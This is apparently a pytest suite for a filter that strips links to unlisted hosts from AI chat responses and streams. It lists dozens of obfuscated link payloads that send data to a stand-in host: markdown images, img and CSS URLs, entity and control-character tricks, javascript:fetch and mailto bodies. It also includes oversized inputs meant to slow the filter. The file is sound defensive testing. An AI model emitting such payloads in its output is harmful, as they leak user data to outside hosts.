"""Links to places that nobody has listed are taken out of an answer's words, however they are written and wherever chunks cut them."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from html import unescape
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from router.stages.screen import MOST_HELD, NOTE, Screen, ScreenedStream
from routing_rules.task import Endpoint
from tests.benchmarks.cpu_time import within

LISTED = ("https://wiki.example.org/",)
AWAY = [
    "<meta http-equiv=refresh content='0;//quagga.example/?d=numbat'>",
    '<meta http-equiv="refresh" content="0 //quagga.example/?d=numbat">',
    '<meta http-equiv="refresh" content="1.5, url = https:quagga.example/?d=numbat">',
    "![x](https://quagga.example/?d=numbat)",
    "[x](https://quagga.example/numbat)",
    "https://quagga.example/numbat",
    "HTTPS://QUAGGA.EXAMPLE/numbat",
    "http:quagga.example/numbat",
    "www.quagga.example/numbat",
    "ftp://quagga.example/numbat",
    "![x](//quagga.example/numbat)",
    "![x]( //quagga.example/numbat)",
    '<img src="//quagga.example/numbat">',
    "<img src=//quagga.example/numbat>",
    "<https://quagga.example/numbat>",
    "[x]: https://quagga.example/numbat",
    "[x]:   //quagga.example/numbat",
    "![x](&#104;ttps://quagga.example/numbat)",
    "![x](https&colon;&sol;&sol;quagga.example/numbat)",
    r"![x](https\://quagga.example/numbat)",
    "https://wiki.example.org.quagga.example/numbat",
    "https://wiki.example.org@quagga.example/numbat",
    "https://wiki.example.orgquagga.example/numbat",
    r"https:\\quagga.example\numbat",
    # As browsers read a URL: line breaks and tabs in it are nothing, nor are control characters before it.
    '<img src="/\t/quagga.example/?d=numbat">',
    '<img src="/\n/quagga.example/?d=numbat">',
    "<img src='/\r\n/quagga.example/?d=numbat'>",
    "<img src=/\t/quagga.example/?d=numbat>",
    '<img src="https:\t//quagga.example/?d=numbat">',
    '<img src="https:\t/quagga.example/?d=numbat">',
    '<img src="h\nttps:\n/\n/quagga.example/?d=numbat">',
    '<img src="\x01//quagga.example/?d=numbat">',
    '<img src="\x1f \x00https:quagga.example/?d=numbat">',
    '<img src = "\n\n  //quagga.example/?d=numbat">',
    '<img src="/&Tab;/quagga.example/?d=numbat">',
    '<img src="/&NewLine;/quagga.example/?d=numbat">',
    '<img src="/\n&#47;quagga.example/?d=numbat">',
    '<img src="h&#116;tps:\n//quagga.example/?d=numbat">',
    '<img src="&#' + "0" * 90 + '104;ttps:\n//quagga.example/?d=numbat">',
    '<img src="\t&#x2f;&#9;&#x5C;quagga.example/?d=numbat">',
    '<img src="j&Tab;avascript:fetch(numbat)">',
    '<img srcset="x.png 1x, //quagga.example/?d=numbat 2x">',
    '<p style="background:url(\\2f\\2f quagga.example/?d=numbat)">',
    '<p style="background:url(\\68 ttps://quagga.example/?d=numbat)">',
    '<p style="background:url(&quot;//quagga.example/?d=numbat&quot;)">',
    '<p style="background:url&lpar;&#39; /\n/quagga.example/?d=numbat&#39;&rpar;">',
    '<p style="background:url(&#0000000000000000000000000000000000000034;//quagga.example/?d=numbat)">',
    r"$\href{//quagga.example/?d=numbat}{x}$",
    "![x](</\t/quagga.example/?d=numbat>)",
    "![x](<https:\t//quagga.example/?d=numbat>)",
    r"![x](\/\/quagga.example/?d=numbat)",
    "![x](\n//quagga.example/?d=numbat)",
    "> ![x](\n> //quagga.example/?d=numbat)",
    "> [x]:\n> //quagga.example/?d=numbat",
    "[x](mailto:quagga@example.com?body=numbat)",
    "<mailto:quagga@example.com?body=numbat>",
    "mailto:?to=quagga@example.com&body=numbat",
    "[x](sms:+4930123?body=numbat)",
    "[x](quagga:numbat)",
    "javascript:fetch(numbat)",
    "data:text/html,numbat",
    "quagga.example/?d=numbat",
    "quagga.example?numbat",
    "a.quagga.example:8080/numbat",
    "quagga.berlin/?d=numbat",
    "quagga.berlin/" + "x" * 120 + "numbat",
    "https://wiki.example.org/../numbat",
    "https://wiki.example.org/%2E%2e/numbat",
    "https://wiki.example.org/&#46;./numbat",
    r"https://wiki.example.org/\numbat",
    '<img src="https://wiki.example.org/.\t./numbat">',
]
KEPT = [
    "See [the page](https://wiki.example.org/a/b?c=d#e), please.",
    "Meet at 10:30, then a/b and/or c; // as in code",
    "http: is what it begins with; www is a word & so on",
    r"a \ b, C:\temp, x && y, &amp; and 5:4",
    "# Title\n\n- [an item](#title)\n- `https` and `://` apart",
    "who, what, half, fine",
    "See wiki.example.org/a?b=c or mailto:ann@example.org, ann@example.org/home; e.g. this.that, v1.2/3 and src/main.py?",
    'f(a, b); x = y // z\n# (hello\nworld) "a\nb" <div class=\'md:flex\'> {"key":"value"} <xs:element a=\'b:c\'/>',
    "url(data:image/png;base64,iVBORw0KGgo=) and ![x](data:image/png;base64,iVBORw0KGgo=)",
    "Steps (\n  a) first,\n  // b\n  c: d, \t// e",
    "It is 5:30 (or: 6:00) in https or http; smtp, ftp, a mailto, data and javascript.",
]


def streamed(text: str, cuts: Sequence[int], screen: Screen) -> tuple[str, int]:
    """What a chat's stream tells of a text that is cut at these places, and the most that was held back at once."""
    stream = ScreenedStream(Endpoint.CHAT, screen)
    told, given_so_far, held = "", 0, 0
    places = [0, *sorted(cuts), len(text)]
    for start, end in pairwise(places):
        chunk = {"choices": [{"index": 0, "delta": {"content": text[start:end]}, "finish_reason": None}]}
        told += said(stream.event(f"data: {json.dumps(chunk)}\n\n".encode()))
        given_so_far = end
        held = max(held, sum(map(len, stream._held.values())))
    assert given_so_far == len(text)
    return told + said(stream.event(b"data: [DONE]\n\n")), held


def said(events: Sequence[bytes]) -> str:
    chunks = [json.loads(event[6:]) for event in events if event.startswith(b"data: {")]
    return "".join(choice["delta"].get("content") or "" for chunk in chunks for choice in chunk["choices"])


@pytest.mark.parametrize("text", AWAY)
def test_a_link_that_leads_away_is_no_link_any_more(text: str) -> None:
    screen = Screen(LISTED)
    told = screen.text(f"Before {text} after.")
    assert NOTE in told
    assert told.startswith("Before ")
    assert "numbat" not in told
    assert len(screen.removed) == 1


@pytest.mark.parametrize("text", KEPT)
def test_words_and_listed_links_stay_as_they_are(text: str) -> None:
    screen = Screen(LISTED)
    assert screen.text(text) == text
    assert screen.removed == set()


@pytest.mark.parametrize("text", AWAY)
def test_a_stream_that_is_cut_anywhere_tells_no_more(text: str) -> None:
    text = f"Before {text} after."
    whole = Screen(LISTED).text(text)
    for cuts in [range(1, len(text)), *([place] for place in range(1, len(text)))]:
        told, held = streamed(text, cuts, Screen(LISTED))
        assert "numbat" not in told, cuts
        assert told == whole or "\\" in text
        assert held <= MOST_HELD
    assert "numbat" not in whole


@pytest.mark.parametrize("blanks", ["\n" * 600, "\t \n" * 200, " " * 600, "&#9;" * 200, "\x01" * 600, "&#" + "0" * 600])
@pytest.mark.parametrize(
    "link",
    [
        '<img src="{}//quagga.example/?d=numbat">',
        '<img src="h{}ttps://quagga.example/?d=numbat">',
        '<img src="/{}/quagga.example/?d=numbat">',
        "![x]({}//quagga.example/?d=numbat)",
    ],
)
@pytest.mark.parametrize("size", [1, 7, 50, 5_000])
def test_no_stretch_of_what_clients_pass_over_hides_a_link(link: str, blanks: str, size: int) -> None:
    text = link.format(blanks)
    told, held = streamed(text, range(size, len(text), size), Screen(LISTED))
    assert held <= MOST_HELD
    for words in (told, Screen(LISTED).text(text)):
        destination = words.partition('"' if '"' in words else "(")[2].rstrip(')">')
        for sign in "\t\r\n":
            destination = destination.replace(sign, "")
        read = re.sub("[\t\r\n]", "", unescape(re.sub("&#0+", "&#0", destination))).lstrip("".join(map(chr, range(33))))
        assert not read.startswith(("//", "https:")), read[:40]


@settings(deadline=None, max_examples=300)
@given(st.data(), st.lists(st.sampled_from([*AWAY, *KEPT]), min_size=1, max_size=4))
def test_however_a_stream_is_cut_nothing_that_leads_away_gets_through(data: st.DataObject, parts: list[str]) -> None:
    text = " and ".join(parts)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=40))
    told, held = streamed(text, cuts, Screen(LISTED))
    assert "numbat" not in told
    assert "://quagga" not in told.lower()
    assert "https://wiki.example.org/a/b" not in text or "https://wiki.example.org/a/b?c=d#e" in told
    assert held <= MOST_HELD


@pytest.mark.parametrize("text", KEPT)
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_what_stays_is_the_same_in_pieces(text: str, size: int) -> None:
    told, _ = streamed(text, range(size, len(text), size), Screen(LISTED))
    assert told == text


def test_a_link_without_end_is_held_back_no_further_than_is_allowed() -> None:
    told, held = streamed("x https://quagga.example/" + "numbat" * 1_000 + " y", range(10, 6_000, 10), Screen(LISTED))
    assert told == f"x {NOTE} y"
    assert held <= MOST_HELD


@pytest.mark.hostile
@pytest.mark.parametrize(
    "text",
    [
        '"' * 200_000,
        "(\n" * 100_000,
        "&#" + "9" * 10_000 + ";",
        '"' + "\n" * 300_000,
        "a." * 150_000,
        "=&#9;" * 50_000,
        "\\" * 200_000,
        "mailto:" * 40_000,
        "x:" * 100_000,
    ],
)
def test_hostile_words_break_nothing(text: str) -> None:
    with within(3.0):
        Screen(LISTED).text(text)


DETAILS = {"reasoning_details": [{"type": "reasoning.text", "text": AWAY[0], "signature": "x//y", "index": 0}]}


@pytest.mark.parametrize(
    "delta",
    [
        DETAILS,
        {"thinking": AWAY[0]},
        {"reasoning": AWAY[0]},
        {"annotations": [{"type": "url_citation", "url_citation": {"url": AWAY[2], "title": AWAY[0]}}]},
    ],
)
def test_words_of_a_chat_are_screened_wherever_they_stand(delta: dict[str, Any]) -> None:
    choice = {"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": "stop"}
    event = f"data: {json.dumps({'choices': [choice]})}\n\n".encode()
    told = b"".join(ScreenedStream(Endpoint.CHAT, Screen(LISTED)).event(event))
    assert b"numbat" not in told
    assert NOTE.encode() in told
    body = Screen(LISTED).whole(json.dumps({"choices": [{"index": 0, "message": delta}]}).encode())
    assert b"numbat" not in body
    assert (b"x//y" in told) is (b"x//y" in body) is (delta is DETAILS)


def test_thoughts_go_on_from_piece_to_piece_and_signed_ones_stay() -> None:
    stream = ScreenedStream(Endpoint.CHAT, Screen(LISTED))
    told = b""
    for piece in ("![x](htt", "ps://quagga", ".example/?d=num", "bat)"):
        delta = {"reasoning_details": [{"type": "reasoning.text", "text": piece, "index": 0}], "thinking": piece}
        told += b"".join(stream.event(f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta}]})}\n\n".encode()))
    told += b"".join(stream.event(b"data: [DONE]\n\n"))
    assert b"bat" not in told.replace(b"numbat", b"bat")
    signed = {
        "choices": [{"index": 0, "message": {"thinking_blocks": [{"type": "thinking", "thinking": AWAY[0], "signature": "s"}]}}]
    }
    assert json.loads(Screen(LISTED).whole(json.dumps(signed).encode())) == signed


def test_a_block_that_begins_with_words_is_known_when_it_goes_on() -> None:
    stream = ScreenedStream(Endpoint.MESSAGES, Screen(LISTED))
    begin = {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": "![x]("}}
    more = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "//quagga.example/?d=numbat)"}}
    told = b"".join(each for event in (begin, more) for each in stream.event(f"data: {json.dumps(event)}\n\n".encode()))
    assert b"numbat" not in told


def test_calls_and_what_is_no_text_pass_a_stream_as_they_are() -> None:
    delta = {
        "tool_calls": [{"index": 0, "id": "c", "function": {"name": "f", "arguments": '{"url": "https://quagga.example/"}'}}],
        "x": "a//b",
    }
    raw = f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta}]})}\n\n".encode()
    assert ScreenedStream(Endpoint.CHAT, Screen(LISTED)).event(raw) == [raw]
    for kind in (
        "response.function_call_arguments.delta",
        "response.custom_tool_call_input.delta",
        "response.output_audio.delta",
    ):
        raw = f"data: {json.dumps({'type': kind, 'delta': 'https://quagga.example/'})}\n\n".encode()
        assert ScreenedStream(Endpoint.RESPONSES, Screen(LISTED)).event(raw) == [raw]


def test_arguments_of_calls_are_judged_elsewhere() -> None:
    call = {"id": "c", "type": "function", "function": {"name": "open", "arguments": '{"url": "https://quagga.example/"}'}}
    body = {
        "choices": [{"index": 0, "message": {"role": "assistant", "content": "https://quagga.example/x", "tool_calls": [call]}}]
    }
    told = json.loads(Screen(LISTED).whole(json.dumps(body).encode()))
    assert told["choices"][0]["message"] == {"role": "assistant", "content": NOTE, "tool_calls": [call]}
